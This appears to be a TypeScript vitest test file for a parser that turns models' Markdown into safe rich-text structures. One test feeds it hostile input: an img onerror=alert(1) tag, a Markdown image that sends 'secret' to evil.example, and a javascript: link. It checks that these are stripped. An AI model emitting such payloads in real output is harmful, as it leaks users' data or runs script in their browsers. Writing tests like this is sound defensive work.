import { expect, test } from 'vitest';
import { mayBeRich } from './may-be-rich.ts';
import { readRichText } from './rich-text.ts';

const text = (words: string) => ({ kind: 'text', text: words });

test("parses models' Markdown: bold text, lists, headings, code", () => {
  const read = readRichText('## Done\n\nI made **two** changes:\n\n1. the `price`\n2. the *date*');
  expect(read).toEqual([
    { kind: 'heading', parts: [text('Done')] },
    {
      kind: 'paragraph',
      parts: [text('I made '), { kind: 'strong', parts: [text('two')] }, text(' changes:')],
    },
    {
      kind: 'list',
      start: 1,
      items: [
        [{ kind: 'paragraph', parts: [text('the '), { kind: 'code', text: 'price' }] }],
        [{ kind: 'paragraph', parts: [text('the '), { kind: 'em', parts: [text('date')] }] }],
      ],
    },
  ]);
});

test('renders no markup, runs nothing and fetches nothing from a model', () => {
  const hostile =
    '<img src=https://evil.example/x onerror=alert(1)> ![all words](https://evil.example/?q=secret) [press](javascript:alert(1)) [page](https://octavo.example/)';
  const read = readRichText(hostile);
  expect(JSON.stringify(read)).not.toMatch(/javascript|secret/);
  expect(read).toContainEqual({ kind: 'paragraph', parts: expect.arrayContaining([text('press')]) });
  expect(JSON.stringify(read).match(/"href":"[^"]*"/g)).toEqual(['"href":"https://octavo.example/"']);
});

test("doesn't parse plain sentences", () => {
  expect(mayBeRich('Your invoice is ready: two lines, €3,712.80 to pay, due on December 5, 2026.')).toBe(
    false,
  );
  for (const rich of ['a **b**', '- one\n- two', '# Title', '2. two', 'see [this](https://a.example)'])
    expect(mayBeRich(rich)).toBe(true);
});
